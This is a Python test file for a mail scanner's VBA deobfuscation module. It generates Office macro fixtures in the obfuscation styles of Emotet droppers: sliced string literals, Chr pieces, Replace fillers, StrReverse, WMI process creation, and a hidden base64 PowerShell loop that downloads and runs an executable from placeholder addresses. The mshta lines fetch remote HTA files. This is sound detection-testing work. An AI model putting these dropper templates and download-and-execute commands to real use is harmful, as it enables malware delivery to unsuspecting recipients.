"""The VBA string folder (mailcheck.analyzers.office.vba_fold) and what it changes in a scan.

Every document here is written by the tests in the shapes Emotet's 2019 droppers used (the
command line sliced out of random-looking literals, Chr pieces, a filler token removed with
Replace, StrReverse, Split/Join, variables spread over procedures, the payload in a form,
WMI process creation, `powershell -e` of a five-URL loop), with documentation addresses
and no real payload; and in the same shapes without a dropper, as business macros are.
"""

from __future__ import annotations

import base64
import random
import time

import pytest
from cases import with_attachment
from hypothesis import given, settings
from hypothesis import strategies as st
from oletools.olevba import VBA_Parser

from mailcheck import catalog
from mailcheck.analyzers.office import hits, oletools_adapter, vba_fold, vba_traits
from mailcheck.analyzers.office.inspection import VbaReport
from mailcheck.api import scan_bytes
from mailcheck.model import Finding, ScanResult
from mailcheck.text import defang
from testkit.office import build_docm, build_vba_project, build_xlsm

evaluate = vba_fold.evaluate

URLS = [f"http://198.51.100.{n}/wp-content/{name}/" for n, name in enumerate("abcde", 10)]
SCRIPT = (
    f"$urls = '{'@'.join(URLS)}'.Split('@'); $out = $env:TEMP + '\\\\551.exe'; "
    "foreach ($u in $urls) { try { (New-Object Net.WebClient).DownloadFile($u, $out); "
    "Start-Process $out; break } catch {} }"
)
ENCODED = base64.b64encode(SCRIPT.encode("utf-16-le")).decode("ascii")
COMMAND = f"powershell -w hidden -e {ENCODED}"


def scan(data: bytes, filename: str) -> ScanResult:
    return scan_bytes(with_attachment(data, filename, "application/octet-stream"))


def ids(result: ScanResult) -> set[str]:
    return {f.id for f in result.findings}


def finding(result: ScanResult, finding_id: str) -> Finding:
    return next(f for f in result.findings if f.id == finding_id)


def macro_docm(code: str, modules: dict[str, str] | None = None) -> bytes:
    data = build_docm(build_vba_project(document_code=code, modules=modules))
    # ms-ovba's compressor garbles some long, repetitive modules (its own decompressor fails
    # on them too): make sure olevba reads back what the test wrote.
    parser = VBA_Parser("check.docm", data=data)
    try:
        source = "\n".join(str(text) for *_where, text in parser.extract_all_macros())
    finally:
        parser.close()
    written = [code, *(modules or {}).values()]
    garbled = [s for text in written for s in text.splitlines() if s.strip() not in source]
    assert not garbled, f"the fixture's VBA stream does not read back: {garbled[:2]}"
    return data


def critical(code: str, modules: dict[str, str] | None = None) -> Finding:
    """The autoexec_exec finding of a .docm with `code`, asserting that the scan says so."""
    result = scan(macro_docm(code, modules), "invoice.docm")
    assert result.verdict.label == "malicious", ids(result)
    return finding(result, "attachment.macro.autoexec_exec")


def below_malicious(code: str, host: str = "excel") -> ScanResult:
    data = build_xlsm(build_vba_project(host=host, document_code=code))
    result = scan(data, "report.xlsm")
    assert result.verdict.label != "malicious", [f.facts() for f in result.findings]
    assert "attachment.macro.autoexec_exec" not in ids(result)
    return result


def vba_string(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def random_name(rng: random.Random) -> str:
    return "".join(rng.choice("bcdfghjklmnpqrstvwxz") for _ in range(8))


def sliced(command: str, seed: int = 2019) -> list[str]:
    """Assignments that cut `command` out of random-looking literals, 7 characters at a time
    (`kqzvbtrw = Left(Right(pdmwqxzs, 26), 7)`), then `full`, their concatenation.

    Names are random, as the droppers' were (it also keeps ms-ovba's compressor, which
    writes broken copy tokens for long repeats, away from its bug)."""
    rng = random.Random(seed)
    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789(). '"
    lines, names = [], []
    for at in range(0, len(command), 7):
        piece = command[at : at + 7]
        before = "".join(rng.choice(alphabet) for _ in range(rng.randint(3, 9)))
        after = "".join(rng.choice(alphabet) for _ in range(rng.randint(3, 9)))
        holder, name = random_name(rng), random_name(rng)
        lines.append(f"{holder} = {vba_string(before + piece + after)}")
        take = f"Left(Right({holder}, {len(piece) + len(after)}), {len(piece)})"
        lines.append(f"{name} = {take if len(names) % 2 else f'CStr({take})'}")
        names.append(name)
    lines.append("full = " + " + ".join(names))
    return lines


def sliced_modules(command: str) -> tuple[str, dict[str, str]]:
    """`sliced(command)` spread over standard modules of 15 pieces each, the pieces in
    `Public` variables, as the droppers spread them; and the line that joins them."""
    lines = sliced(command)
    full, pairs = lines[-1], lines[:-1]
    modules = {}
    for part, at in enumerate(range(0, len(pairs), 30)):
        chunk = pairs[at : at + 30]
        names = [line.split(" = ")[0] for line in chunk[1::2]]
        modules[f"Part{part}"] = "".join(f"Public {n} As String\n" for n in names) + sub(
            f"Part{part}", chunk
        )
    return full, modules


def junk_lines(count: int, seed: int = 661607) -> list[str]:
    """Emotet's filler: arithmetic over names nothing assigns."""
    rng = random.Random(seed)

    def name() -> str:
        return random_name(rng)

    return [
        f"{name()} = ({name()} - CDbl({rng.randint(1000, 999999)}) + {name()} + "
        f"Fix({name()} / CLng({rng.randint(100, 99999)} * Sqr({name()}))) - "
        f"{rng.randint(1000, 999999)} / Sin({name()} - {name()}))"
        for _ in range(count)
    ]


def sub(name: str, lines: list[str]) -> str:
    return f"Sub {name}()\n" + "".join(f"    {line}\n" for line in lines) + "End Sub\n"


# --- the evaluator, construct by construct ----------------------------------------------------


@pytest.mark.parametrize(
    ("expression", "code", "expected"),
    [
        ('"ab" & "cd"', "", "abcd"),
        ('"ab" + "cd"', "", "abcd"),
        ('"say ""hi"""', "", 'say "hi"'),
        ('"n" & 12', "", "n12"),
        ("Chr(112) & ChrW(111) & Chr$(&H77) & ChrB(50 + 51) & Chr(228 \\ 2)", "", "power"),
        ("Chr(104.5) & ChrW(-1)", "", "h\uffff"),
        ('Left("powershell", 3) & Left$("abc", 0)', "", "pow"),
        ('Right("xxpowershell", 10)', "", "powershell"),
        ('Mid("xxpowershell", 3, 5) & Mid$("abc", 2)', "", "powerbc"),
        ('Replace("pzqzowzqzershell", "zqz", "")', "", "powershell"),
        ('Replace("aXbxc", "x", "-", 1, -1, vbTextCompare)', "", "a-b-c"),
        ('Replace("a.b.c", ".", "-", 3)', "", "b-c"),
        ('StrReverse("llehsrewop")', "", "powershell"),
        ('LCase("PoWeR") & UCase("shell")', "", "powerSHELL"),
        ('Trim("  a  ") & LTrim("  b") & RTrim("c  ")', "", "abc"),
        ('CStr(42) & CStr(Left("ab", 1))', "", "42a"),
        ('Join(Split("pow|er|shell", "|"), "")', "", "powershell"),
        ('Split("a b c")(2) & Split("a,b,c", ",", 2)(1)', "", "cb,c"),
        ('Join(Array("a", "b", 3), "-")', "", "a-b-3"),
        ('String(3, "ab") & Space(2) & String(2, 65)', "", "aaa  AA"),
        ('Environ("TEMP") & "\\x.exe"', "", "%TEMP%\\x.exe"),
        ('VBA.Strings.Left("abc", 2) & VBA.Mid("abc", 3)', "", "abc"),
        ('Len("abcd") * 2 + InStr("abc", "c")', "", 11),
        ("-2 ^ 2 + 7 Mod 3 + 7 \\ 2", "", -4.0 + 1 + 3),
        ('"1" + 2', "", 3),
        ("vbCrLf & vbTab", "", "\r\n\t"),
        ("&H41 + &O10", "", 73),
        # Variables: assigned once, appended to, declared, continued, across procedures.
        ("s", 'Dim s As String\ns = s & "abc"\ns = s & "def"', "abcdef"),
        ("k", 'Private Const k As String = "a" & "b", j = 2', "ab"),
        ("s", 's = "a" _\n   & "b" \' a comment\nRem s = "c"', "ab"),
        ("s", 'a = "x": b = a & "y": s = b', "xy"),
        ("t", 'If c Then t = "yes" Else u = "no"', "yes"),
        ("p", 'Sub A()\n  part = "pow"\nEnd Sub\nSub B()\n  p = part & "er"\nEnd Sub', "power"),
        ("Name", 'Function Name()\n  Name = "a" & "b"\nEnd Function', "ab"),
        ('Name() & "c"', 'Function Name()\n  Name = "a" & "b"\nEnd Function', "abc"),
        ("arr(1)", 'arr = Split("a;b", ";")', "b"),
    ],
)
def test_folds(expression: str, code: str, expected: object) -> None:
    assert evaluate(expression, code) == expected


@pytest.mark.parametrize(
    "expression",
    [
        "undefined_name",
        'undefined_name & "a"',
        'SomeFunction("a")',
        'obj.Replace("abc", "a", "b")',  # a RegExp's Replace, not VBA's
        'Left("abc", -1)',
        'Mid("abc", 0)',
        "Chr(300)",
        "Chr(x)",
        '"a" + 1',
        "1 / 0",
        "10 ^ 400",
        "Sqr(b) * CDbl(661607)",
        'ActiveDocument.Variables("v").Value',
        "(",
        '"a" "b"',
    ],
)
def test_unknown_is_none_and_never_raises(expression: str) -> None:
    assert evaluate(expression) is None


def test_a_function_assigned_below_its_caller_is_folded_on_the_second_pass() -> None:
    code = sub("Document_Open", ["Shell Build()"]) + (
        'Function Build()\n  Build = "mshta " & StrReverse("atx.a/9.311.0.302//:ptth")\n'
        "End Function\n"
    )
    assert "mshta http://203.0.113.9/a.xta" in vba_fold.fold(code).strings


def test_only_folded_strings_are_recovered() -> None:
    code = 'a = "plain literal, already visible"\nb = "folded " & "together here"\n'
    assert vba_fold.fold(code).strings == ("folded together here",)


def test_powershell_encoded_commands_are_decoded() -> None:
    for switch in ("-e", "-en", "-enc", "-EncodedCommand", "/ec", "-ENCOD"):
        assert vba_fold.decode_powershell(f"POWERSHELL.exe -nop {switch} {ENCODED}") == [SCRIPT]
    assert vba_fold.decode_powershell(f"powershell -exec bypass {ENCODED}") == []
    assert vba_fold.decode_powershell("powershell -e " + "A" * 40) == []  # NULs, not text
    assert vba_fold.decode_powershell("powershell -e not_base64!!") == []


def test_an_encoded_command_in_a_plain_literal_is_decoded_too() -> None:
    strings = vba_fold.fold(f"Sub AutoOpen()\n  Shell {vba_string(COMMAND)}\nEnd Sub\n").strings
    assert strings[0] == SCRIPT
    assert vba_fold.urls(strings) == URLS


def test_fillers_the_macro_removes_from_form_text_are_removed_from_the_form_strings() -> None:
    code = sub("Document_Open", ["t = UserForm1.Label1.Caption", 'c = Join(Split(t, "]qz["), "")'])
    hidden = "]qz[".join(COMMAND[i : i + 5] for i in range(0, len(COMMAND), 5))
    strings = vba_fold.fold(code, [hidden, "OK"]).strings
    assert COMMAND in strings and SCRIPT in strings


# --- bounds ------------------------------------------------------------------------------------


def finishes(code: str, forms: tuple[str, ...] = ()) -> vba_fold.Folded:
    start = time.monotonic()
    folded = vba_fold.fold(code, forms)
    assert time.monotonic() - start < 20  # only a guard against hangs
    assert len(folded.strings) <= vba_fold.MAX_STRINGS
    assert all(len(s) <= vba_fold.MAX_VALUE_CHARS for s in folded.strings)
    return folded


def test_a_one_megabyte_line_is_bounded() -> None:
    finishes('x = "' + "a" * 1_000_000 + '"\nShell x & x\n')
    folded = finishes('x = "ab"' + ' & "ab"' * 200_000)
    assert folded.exhausted  # every concatenation copies: the character budget stops it


def test_deep_nesting_is_skipped_not_a_recursion_error() -> None:
    finishes("x = " + "(" * 100_000 + '"a"' + ")" * 100_000 + "\n")
    finishes("x = " + "Left(" * 20_000 + '"a"' + ", 1)" * 20_000 + "\n")
    finishes("x = " + "-" * 50_000 + "1\n")
    assert evaluate("(" * 30 + '"a"' + ")" * 30) == "a"  # ordinary nesting still folds


def test_a_self_doubling_string_stops_at_the_value_bound() -> None:
    code = 'x = "ab"\n' + "x = x & x\n" * 100 + "Shell x\n"
    folded = finishes(code)
    assert max(map(len, folded.strings)) <= vba_fold.MAX_VALUE_CHARS
    assert evaluate("x", code) is None  # past the bound the value is unknown, not truncated
    folded = finishes('x = "' + "a" * 30_000 + '"\n' + "y = x & x & x\n" * 10_000)
    assert folded.exhausted


def test_the_step_budget_ends_the_work_with_what_was_recovered() -> None:
    code = 'early = "pow" & "ershell"\n' + "a = 1 + 2 + 3 + 4\n" * 100_000
    folded = finishes(code)
    assert folded.exhausted and folded.strings == ("powershell",)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from('x=&+-*/\\^()",.:_ \n\'"Chr1LeftRm')))
def test_any_text_is_folded_without_raising(code: str) -> None:
    folded = vba_fold.fold(code, [code])
    assert len(folded.strings) <= vba_fold.MAX_STRINGS


# --- junk arithmetic -------------------------------------------------------------------------


def test_junk_arithmetic_is_recognised() -> None:
    folded = vba_fold.fold(sub("x", [*junk_lines(30), "y = 1"]))
    assert folded.junk_arithmetic and folded.junk_lines == 30
    assert "cdbl" in folded.junk_excerpt


def test_few_junk_lines_or_a_small_share_are_not_junk_arithmetic() -> None:
    assert not vba_fold.fold(sub("x", junk_lines(9))).junk_arithmetic
    ordinary = [f'Cells({n}, 1).Value = "row {n}"' for n in range(100)]
    folded = vba_fold.fold(sub("x", junk_lines(12) + ordinary))
    assert folded.junk_lines == 12 and not folded.junk_arithmetic


def test_numeric_code_on_declared_names_is_not_junk() -> None:
    routine = (
        "Function Distance(x1 As Double, y1 As Double, x2 As Double, y2 As Double) As Double\n"
        "    dx = x2 - x1\n    dy = y2 - y1\n    Distance = Sqr(dx * dx + dy * dy)\n"
        "End Function\n"
    )
    numeric = [f'r{n} = Round(CDbl(Range("B{n}").Value) * 1.08, 2)' for n in range(20)] + [
        f"t{n} = Int(r{n} * 100 + 0.5) / 100" for n in range(20)
    ]
    folded = vba_fold.fold(routine * 20 + sub("Totals", numeric))
    assert folded.junk_lines == 0


def test_junk_arithmetic_makes_an_auto_run_macro_critical() -> None:
    code = sub("Document_Open", [*junk_lines(20), 'Set o = CreateObject("WScript.Shell")'])
    hit = critical(code)
    assert "junk_arithmetic: 20 of" in hit.facts()["traits"]


# --- documents in each obfuscation shape --------------------------------------------------------


def recovered(hit: Finding) -> str:
    return hit.facts()["recovered"]


def test_sliced_literals_reassemble_the_encoded_powershell_and_its_urls() -> None:
    full, modules = sliced_modules(COMMAND)
    calls = [f"Part{n}" for n in range(len(modules))]
    code = sub("Document_Open", [*calls, full, 'CreateObject("WScript.Shell").Run full, 0'])
    source = "\n".join([code, *modules.values()])
    assert "powershell" not in source.lower()
    assert vba_traits.dropper_traits(source) == ()  # the source alone shows nothing
    hit = critical(code, modules)
    assert "lolbin: powershell" in hit.facts()["traits"]
    assert "downloader: Net.WebClient" in hit.facts()["traits"]
    assert recovered(hit).startswith(f"powershell -w hidden -e {ENCODED[:40]}")
    urls = hit.facts()["urls"].split(", ")
    hosts = zip(range(10, 15), "abcde", strict=True)
    assert urls == [f"hxxp://198[.]51[.]100[.]{n}/wp-content/{c}/" for n, c in hosts]


def test_sliced_literals_between_junk_lines() -> None:
    *pieces, full = sliced("mshta http://203.0.113.8/inv.hta")
    mixed = [line for pair in zip(pieces, junk_lines(len(pieces)), strict=True) for line in pair]
    hit = critical(sub("Document_Open", [*mixed, full, "Shell full"]))
    assert "lolbin: mshta" in hit.facts()["traits"]
    assert "junk_arithmetic" in hit.facts()["traits"]
    assert "mshta hxxp://203[.]0[.]113[.]8/inv.hta" in recovered(hit)


def test_chr_pieces() -> None:
    pieces = " & ".join(f"Chr({ord(c) - 7} + 7)" for c in "pow")
    code = sub(
        "AutoOpen",
        [
            f"a = {pieces}",
            'b = a & ChrW(101) & "rsh" & Chr(&H65)',
            'Shell b & "ll -nop -c calc", 0',
        ],
    )
    assert vba_traits.dropper_traits(code) == ()
    assert recovered(critical(code)).startswith("powershell -nop -c calc")


def test_replace_of_a_filler_token() -> None:
    code = sub(
        "Document_Open",
        [
            'f = "zqxj"',
            'c = Replace("czqxjmdzqxj /c pzqxjowerszqxjhell -e ' + ENCODED + '", f, "")',
            'Set w = CreateObject(Replace("WSzqxjcript.Szqxjhell", f, ""))',
            "w.Run c, 0",
        ],
    )
    hit = critical(code)
    assert recovered(hit).startswith("cmd /c powershell -e JAB")
    assert hit.facts()["urls"].startswith("hxxp://198[.]51[.]100[.]10/")


def test_strreverse_of_a_variable() -> None:
    code = sub(
        "Document_Open",
        ['r = "ath.vni/8.311.0.302//:ptth exe.athsm"', "Shell StrReverse(r)"],
    )
    assert vba_traits.dropper_traits(code) == ()
    assert "mshta.exe hxxp://203[.]0[.]113[.]8/inv.hta" in recovered(critical(code))


def test_split_and_join() -> None:
    code = sub(
        "Document_Open",
        [
            'parts = Split("pow|ersh|ell -w hid|den -e|nc ' + ENCODED + '", "|")',
            'cmd = Join(parts, "")',
            'host = Split("x WScript.Shell y")(1)',
            "CreateObject(host).Run cmd, 0",
        ],
    )
    assert recovered(critical(code)).startswith("powershell -w hidden -enc JAB")


def test_variables_assigned_in_one_module_and_read_in_another() -> None:
    helper = (
        "Public head As String\nPublic tail As String\n"
        + sub("Prepare", ['head = Mid("xxpowexx", 3, 4)', 'tail = LCase("RSHELL -NOP -W HIDDEN ")'])
        + "Function Build()\n"
        + '    Build = head & tail & "-e " & Split("'
        + ENCODED
        + ' x")(0)\n'
        + "End Function\n"
    )
    code = sub("Document_Open", ["Prepare", 'CreateObject("WScript.Shell").Run Build(), 0'])
    hit = critical(code, modules={"Helpers": helper})
    assert recovered(hit).startswith("powershell -nop -w hidden -e JAB")


def test_wmi_process_creation_with_a_folded_class_name_and_command() -> None:
    code = sub(
        "AutoOpen",
        [
            'k = "Wi" & "xq" & "n32_Pro"',
            'k = Replace(k, "xq", "")',
            'Set st = GetObject(Replace("winxqmgmts:", "xq", "")).Get(k & "cessStartup")',
            "st.ShowWindow = 0",
            'Set p = GetObject("winmgmts:").Get(k & "cess")',
            'r = "c- pon- llehsr" & "ewop"',
            "p.Create StrReverse(r), Null, st, pid",
        ],
    )
    assert vba_traits.dropper_traits(code) == ()
    hit = critical(code)
    assert "wmi_process: Win32_ProcessStartup" in hit.facts()["traits"]
    assert "lolbin: powershell" in hit.facts()["traits"]


def test_payload_in_a_form_string() -> None:
    # The fixture tools write document and standard modules only (ms-ovba makes no
    # UserForm), so the form strings olevba would read are given to the adapter directly.
    code = sub(
        "Document_Open",
        [
            "t = UserForm1.TextBox1.ControlTipText",
            'c = Join(Split(t, "]ak["), "")',
            'CreateObject("WScript.Shell").Run c, 0',
        ],
    )
    hidden = "]ak[".join(COMMAND[i : i + 6] for i in range(0, len(COMMAND), 6))
    for forms, first in (([hidden, "Cancel"], COMMAND), ([COMMAND], SCRIPT)):
        traits, strings, urls = oletools_adapter._folded(code, forms)
        assert {"lolbin", "downloader"} <= {t.kind for t in traits}
        assert strings[0] == first[:199] + "…"  # clipped for the report
        assert list(urls) == URLS
        report = VbaReport(
            modules=1,
            autoexec=("Document_Open",),
            suspicious=("CreateObject",),
            raptor_autoexec="Document_Open",
            raptor_write="",
            raptor_execute="CreateObject",
            traits=traits,
            recovered=strings,
            recovered_urls=urls,
        )
        found = {h.id: h for h in hits.vba_hits(report, "attachment 2", "invoice.docm")}
        facts = dict(found["attachment.macro.autoexec_exec"].evidence[0].facts)
        assert facts["recovered"].startswith(defang(first[:40]))
        assert "hxxp://198[.]51[.]100[.]12/" in facts["urls"]


def test_the_catalog_text_shows_what_was_recovered() -> None:
    code = sub("AutoOpen", ['r = "ath.vni/8.311.0.302//:ptth exe.athsm"', "Shell StrReverse(r)"])
    hit = critical(code)
    for lang in ("en", "ja"):
        texts = catalog.load().texts(hit.id, lang, hit.facts())
        assert "mshta.exe hxxp://203[.]0[.]113[.]8/inv.hta" in texts.explanation
        assert texts.explanation.count("hxxp://203[.]0[.]113[.]8/inv.hta") == 2  # and the list


# --- the same shapes without a dropper ----------------------------------------------------------


def test_a_file_path_assembled_with_left_mid_replace_is_not_a_dropper() -> None:
    code = sub(
        "Workbook_Open",
        [
            "Dim base As String",
            r'base = "C:\Users\Public\Reports\2022"',
            'name = Replace("sales_q1_2022.xlsx", "_", " ")',
            r'folder = Left(base, InStr(4, base, "\") - 1) & Mid(base, 9)',
            'Set fso = CreateObject("Scripting.FileSystemObject")',
            "If Not fso.FolderExists(folder) Then fso.CreateFolder folder",
            r'Workbooks.Open folder & "\" & name',
        ],
    ).replace("Sub Workbook_Open", "Private Sub Workbook_Open")
    result = below_malicious(code)
    hit = finding(result, "attachment.macro.autoexec")
    assert "C:\\Users\\Public\\Reports\\2022" in hit.facts()["recovered"]


def test_an_xlwings_style_launch_through_cmd_is_not_a_dropper() -> None:
    code = sub(
        "Workbook_Open",
        [
            'PYTHON = "pyth" & "on"',
            'args = "-c ""import xlwings.server; xlwings.server.serve()"""',
            'RunCommand = PYTHON & " " & args',
            'Set wsh = CreateObject("WScript.Shell")',
            'log = Environ("TEMP") & "\\xlwings.log"',
            'ExitCode = wsh.Run("cmd.exe /C " & RunCommand & " 2> """ & log & """", 0, True)',
        ],
    )
    result = below_malicious(code)
    assert finding(result, "attachment.macro.autoexec").severity == "medium"
    assert (
        "cmd.exe /C python -c" in finding(result, "attachment.macro.autoexec").facts()["recovered"]
    )


def test_obfuscation_in_folded_strings_alone_is_not_a_trait() -> None:
    blob = "QUJD" * 60  # base64-looking data, built at run time
    code = sub(
        "Workbook_Open",
        [
            f'b = "{blob[:100]}" & Mid("xx{blob[100:]}", 3)',
            'Set d = CreateObject("Scripting.Dictionary")',
        ],
    )
    traits, strings, _urls = oletools_adapter._folded(code, [blob])
    assert strings and traits == ()
    below_malicious(code)
